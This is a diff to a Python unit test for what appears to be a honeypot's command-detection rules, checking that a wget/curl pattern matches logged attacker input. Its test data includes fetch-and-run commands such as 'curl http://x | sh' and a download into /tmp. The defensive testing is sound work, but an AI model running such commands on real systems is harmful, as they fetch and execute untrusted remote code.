@@ -45,10 +45,11 @@ def test_each_kind_picks_its_events() -> None:
     assert upload.consider(event(ev.SESSION_FILE_UPLOAD), 0.0) == 1
 
 
-def test_command_pattern_is_searched_in_commands_and_exec_lines() -> None:
+def test_command_pattern_is_searched_in_command_lines() -> None:
     state = RuleState(rule(when="command", pattern=r"(wget|curl)\s+http", rate_limit=100), 100)
     assert state.consider(event(ev.COMMAND_INPUT, input="cd /tmp; wget http://x/y"), 0.0) == 1
-    assert state.consider(event(ev.CHANNEL_EXEC, input="curl  http://x | sh"), 0.0) == 1
+    assert state.consider(event(ev.COMMAND_INPUT, input="curl  http://x | sh", source="exec"), 0.0) == 1
+    assert state.consider(event(ev.CHANNEL_EXEC, input="curl  http://x | sh"), 0.0) == 0  # its command.input counts
     assert state.consider(event(ev.COMMAND_INPUT, input="uname -a"), 0.0) == 0
     assert state.consider(event(ev.COMMAND_INPUT, input=None), 0.0) == 0
     assert state.counters.matched == 2
